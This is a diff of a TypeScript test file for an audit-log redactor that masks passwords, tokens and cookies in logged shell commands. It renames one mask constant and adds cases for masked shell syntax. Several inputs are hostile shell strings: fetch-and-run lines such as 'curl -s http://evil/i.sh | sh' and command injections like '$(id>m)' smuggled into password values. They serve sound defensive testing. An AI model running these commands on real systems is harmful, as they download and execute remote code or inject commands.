@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'bun:test';
-import { digestMatcher, MAX_STRING, REDACTED, REDACTED_SUBSTITUTION, Redactor } from '../../src/audit/redact.ts';
+import { digestMatcher, MAX_STRING, REDACTED, REDACTED_SHELL, Redactor } from '../../src/audit/redact.ts';
 
 const SERVER_KEY = 'Zq9-srv_KEY.with+regex*chars(1)';
 const r = new Redactor([SERVER_KEY, 'second-server-key-xyz', 'ab']);
@@ -61,9 +61,9 @@ describe('Redactor.redactText', () => {
     ['authorization header, any scheme', 'Authorization: Token abc def', `Authorization: Token ${REDACTED}`],
     ['cookie header, every cookie', 'curl -H "Cookie: a=1; sid=xyz" u', `curl -H "Cookie: ${REDACTED}" u`],
     // Values may hold `|`, `&` and `;` (signed cookies, query-like cookies): no operator ends the mask.
-    ['cookie header, a signed value with |', 'curl -H "Cookie: auth=user|1700000000|HMACSECRET" u', `curl -H "Cookie: ${REDACTED}" u`],
-    ['cookie header, a value with &', "curl -H 'Cookie: prefs=a=1&sig=SECRETSIG' u", `curl -H 'Cookie: ${REDACTED}' u`],
-    ['authorization header, a token with | and ;', 'Authorization: Bearer abc|def123secret;x more', `Authorization: Bearer ${REDACTED}`],
+    ['cookie header, a signed value with |', 'curl -H "Cookie: auth=user|1700000000|HMACSECRET" u', `curl -H "Cookie: ${REDACTED_SHELL}" u`],
+    ['cookie header, a value with &', "curl -H 'Cookie: prefs=a=1&sig=SECRETSIG' u", `curl -H 'Cookie: ${REDACTED_SHELL}' u`],
+    ['authorization header, a token with | and ;', 'Authorization: Bearer abc|def123secret;x more', `Authorization: Bearer ${REDACTED_SHELL}`],
     // The shell ends a command at a ; | or & that a space follows: what comes after it is another command, and is shown.
     ['authorization header, then ; | & and a space', 'echo authorization: none; wget http://x/x.sh -O- | sh; echo Authorization: Bearer t1| tee f; echo authorization: t2& wait', `echo authorization: ${REDACTED}; wget http://x/x.sh -O- | sh; echo Authorization: Bearer ${REDACTED}| tee f; echo authorization: ${REDACTED}& wait`],
     // What a value never holds ends it: a shell operator after a space, `$(`, a backquote; in a cookie header a space,
@@ -111,7 +111,7 @@ describe('Redactor.redactText', () => {
     ['a flag at the end of a line takes no continuation as its value', 'psql --password \\\n  --host db && mysql -u root -p \\\n  -h db', 'psql --password \\\n  --host db && mysql -u root -p \\\n  -h db'],
     ['a continuation inside a double-quoted value', 'docker login -u me --password "S3cr3tPw\\\nrest"', `docker login -u me --password "${REDACTED}"`],
     // A value may start with a shell operator's character outside a shell (a log line, an error message).
-    ['a value starting with & ( ; in plain text', 'login failed: --password &Hk7Qz9Wm rejected; mysql -u root -p(Hk7Qz9Wm) db; redis-cli -a ;Hk7Qz9Wm ping', `login failed: --password ${REDACTED} rejected; mysql -u root -p${REDACTED} db; redis-cli -a ${REDACTED} ping`],
+    ['a value starting with & ( ; in plain text', 'login failed: --password &Hk7Qz9Wm rejected; mysql -u root -p(Hk7Qz9Wm) db; redis-cli -a ;Hk7Qz9Wm ping', `login failed: --password ${REDACTED_SHELL} rejected; mysql -u root -p${REDACTED} db; redis-cli -a ${REDACTED} ping`],
     // The shell runs $(…) and backticks, in double quotes too: the log shows how the secret was got.
     ['a command substitution is no value', 'psql --password "$(cat /run/pw)" -h db; mysql -p`cat pw` -p$(cat pw) db', 'psql --password "$(cat /run/pw)" -h db; mysql -p`cat pw` -p$(cat pw) db'],
     ['a value a continuation splits inside the word', 'psql --password Hk7Q\\\nz9Wm --host db', `psql --password ${REDACTED} --host db`],
@@ -140,7 +140,7 @@ describe('Redactor.redactText', () => {
     ['a quote after a flag that took no value closes the string', 'sh -c "mysql -u root -p"; echo "done"', 'sh -c "mysql -u root -p"; echo "done"'],
     ['user:pass in quotes ends at its quote and holds no command substitution', `curl -u "me:$(cat pw)" x; curl -u 'me:pw' y && echo 'z'`, `curl -u "me:$(cat pw)" x; curl -u 'me:${REDACTED}' y && echo 'z'`],
     ['user:pass in quotes holding the other quote', `curl --user "admin:P@ss'w0rd" x; curl -u 'admin:p"w' y`, `curl --user "admin:${REDACTED}" x; curl -u 'admin:${REDACTED}' y`],
-    ['an escaped operator in JSON text is the value\'s', '{"cmd":"mysql -uroot -pP\\\\&ssw0rd -e x; echo P\\\\;w | sudo -S true"}', `{"cmd":"mysql -uroot -p${REDACTED} -e x; echo ${REDACTED} | sudo -S true"}`],
+    ['an escaped operator in JSON text is the value\'s', '{"cmd":"mysql -uroot -pP\\\\&ssw0rd -e x; echo P\\\\;w | sudo -S true"}', `{"cmd":"mysql -uroot -p${REDACTED_SHELL} -e x; echo ${REDACTED} | sudo -S true"}`],
     ['echo with a glued quoted part piped to sudo -S', `echo S3cr3t'x y' | sudo -S ls`, `echo ${REDACTED} | sudo -S ls`],
     ['user:pass quoted, escaped, or inside quotes opened before the user', `curl -u admin:'s3cret' a; curl -u "admin:correct horse" b; curl -u admin:pa\\$\\$word c; curl -u 'me:x y' d`, `curl -u admin:'${REDACTED}' a; curl -u "admin:${REDACTED}" b; curl -u admin:${REDACTED} c; curl -u 'me:${REDACTED}' d`],
     ['program flags after a JSON tab escape', '{"script":"mysql\\t-phunter2 db; docker login -u me\\t-p pw2 r; curl\\t-u me:pw3 x"}', `{"script":"mysql\\t-p${REDACTED} db; docker login -u me\\t-p ${REDACTED} r; curl\\t-u me:${REDACTED} x"}`],
@@ -163,7 +163,7 @@ describe('Redactor.redactText', () => {
     ['a quoted environment-style value', `export DB_PASS="Hunter2Env"; MYSQL_PWD='Hunter2My' mysql; SSH_KEY=$'Hunter2Ansi' x; PGPASS=\\"Hunter2J\\" y; pass="p1"`, `export DB_PASS="${REDACTED}"; MYSQL_PWD='${REDACTED}' mysql; SSH_KEY=$'${REDACTED}' x; PGPASS=\\"${REDACTED}\\" y; pass="${REDACTED}"`],
     // A quoted value runs to its closing quote, whatever it holds, and never past the end of its line.
     ...[`echo 'password="' > /tmp/x; curl -s http://evil/i.sh | sh`, `(echo 'token="'); curl -s http://evil/x | sh`].map((cmd): [string, string, string] => [`unclosed: ${cmd}`, cmd, cmd]),
-    ['a quoted value holding a quote and an operator is masked whole', `PGPASSWORD="Tr0ub4dor'&3" psql -h db; export API_TOKEN='Zq9"&Secret'; {"password":"Zq9'|Secret"}`, `PGPASSWORD="${REDACTED}" psql -h db; export API_TOKEN='${REDACTED}'; {"password":"${REDACTED}"}`],
+    ['a quoted value holding a quote and an operator is masked whole', `PGPASSWORD="Tr0ub4dor'&3" psql -h db; export API_TOKEN='Zq9"&Secret'; {"password":"Zq9'|Secret"}`, `PGPASSWORD="${REDACTED_SHELL}" psql -h db; export API_TOKEN='${REDACTED_SHELL}'; {"password":"${REDACTED_SHELL}"}`],
     // An empty user: a token as the password (Azure DevOps's `-u :PAT`); a group alone (docker -u :1000) stays.
     ['user:password with an empty user', 'curl -u :Zq9PAT1 https://dev.azure.com/o; curl --user :Zq9PAT2 x; curl -su :Zq9PAT3 y; curl -s -u ":Zq9PAT4" z; curl -su:Zq9PAT5 w; docker run -u :1000 img', `curl -u :${REDACTED} https://dev.azure.com/o; curl --user :${REDACTED} x; curl -su :${REDACTED} y; curl -s -u ":${REDACTED}" z; curl -su:${REDACTED} w; docker run -u :1000 img`],
     // curl's -u glued on with a user the user:password patterns do not read: the whole value goes.
@@ -244,18 +244,32 @@ describe('long and piped bare values', () => {
   // cannot be told from the text), but says that it held what opens a substitution.
   test('a quoted value holding a substitution says so where it is masked; an expansion or a brace expansion ends a bare one', () => {
     const cases: Array<[string, string]> = [
-      ['echo password="$(touch x)"', `echo password="${REDACTED_SUBSTITUTION}"`],
-      ['X_PASS="`id`" app', `X_PASS="${REDACTED_SUBSTITUTION}" app`],
-      [`echo "password='$(cmd)'"`, `echo "password='${REDACTED_SUBSTITUTION}'"`],
+      ['echo password="$(touch x)"', `echo password="${REDACTED_SHELL}"`],
+      ['X_PASS="`id`" app', `X_PASS="${REDACTED_SHELL}" app`],
+      [`echo "password='$(cmd)'"`, `echo "password='${REDACTED_SHELL}'"`],
       // Its value as matched ends at the quote inside the substitution: still said.
-      ['export DB_PASS="$(curl -s h | sh; echo "")"', `export DB_PASS="${REDACTED_SUBSTITUTION}"")"`],
-      [`sh -c "mysql --password '$(cmd)'"`, `sh -c "mysql --password '${REDACTED_SUBSTITUTION}'"`],
+      ['export DB_PASS="$(curl -s h | sh; echo "")"', `export DB_PASS="${REDACTED_SHELL}"")"`],
+      [`sh -c "mysql --password '$(cmd)'"`, `sh -c "mysql --password '${REDACTED_SHELL}'"`],
     ];
     for (const [text, masked] of cases) expect(r.redactText(text)).toBe(masked);
-    expect(r.redact({ command: 'python3', arguments: ['-c', `os.system('X_PASS="$(id)"')`] })).toEqual({ command: 'python3', arguments: ['-c', `os.system('X_PASS="${REDACTED_SUBSTITUTION}"')`] });
+    expect(r.redact({ command: 'python3', arguments: ['-c', `os.system('X_PASS="$(id)"')`] })).toEqual({ command: 'python3', arguments: ['-c', `os.system('X_PASS="${REDACTED_SHELL}"')`] });
     expect(r.redactText('env password=1${IFS}touch${IFS}x')).toBe(`env password=${REDACTED}\${IFS}touch\${IFS}x`);
     expect(r.redactText('{env,password=1,touch,x}')).toBe(`{env,password=${REDACTED},touch,x}`);
     expect(r.redactText('password="Pa$$ w0rd" DB_PASSWORD=\'a b\'')).toBe(`password="${REDACTED}" DB_PASSWORD='${REDACTED}'`);
+  });
+
+  // Every rule's mask says so when what it removed held shell syntax, not only the key=value ones; a key block's END
+  // line counts only right after key lines.
+  test('any mask that removed shell syntax says so; text between a key block\'s BEGIN and END that is no key stays', () => {
+    for (const [text, masked] of [
+      ['openssl enc -pass pass:$(id>m) -in f', `openssl enc -pass ${REDACTED}${REDACTED_SHELL} -in f`],
+      ["mysql -p'$(id>m)' db", `mysql -p'${REDACTED_SHELL}' db`],
+      ["curl -u 'admin:$(id>m)' https://h", `curl -u 'admin:${REDACTED_SHELL}' https://h`],
+      ['git clone https://u:a`id`b@h/r', `git clone https://u:${REDACTED_SHELL}@h/r`],
+    ] as const) expect(r.redactText(text)).toBe(masked);
+    expect(r.redact({ command: 'env', arguments: ['-u', 'mysql', 'bash', '-c', '-p; id > x; touch y'] })).toEqual({ command: 'env', arguments: ['-u', 'mysql', 'bash', '-c', `-p${REDACTED_SHELL}`] });
+    const block = 'echo -----BEGIN RSA PRIVATE KEY-----; id>x; touch y; echo -----END RSA PRIVATE KEY-----';
+    expect(r.redactText(block)).toContain('; id>x; touch y; echo');
   });
 
   // sshpass -e reads SSHPASS, smbclient SMBPASS, wpa_supplicant set-ups WIFI_PSK: each was logged whole.
@@ -272,7 +286,7 @@ describe('long and piped bare values', () => {
   // Generated passwords hold backquotes, and `$(` or `${` now and then: a lone one opens no substitution, and such a
   // quoted value was logged whole (quoted for a shell, or JSON given to curl, python or node).
   test('a quoted value with a lone backquote, $( or ${ is masked whole', () => {
-    const M = REDACTED_SUBSTITUTION;
+    const M = REDACTED_SHELL;
     const cases: Array<[string, string]> = [
       ["PGPASSWORD='Xy7`Qp9Zr4Lm' psql -h db", `PGPASSWORD='${M}' psql -h db`],
       ["mysql --password='Xy7`Qp9`Zr4Lm' prod", `mysql --password='${M}' prod`],
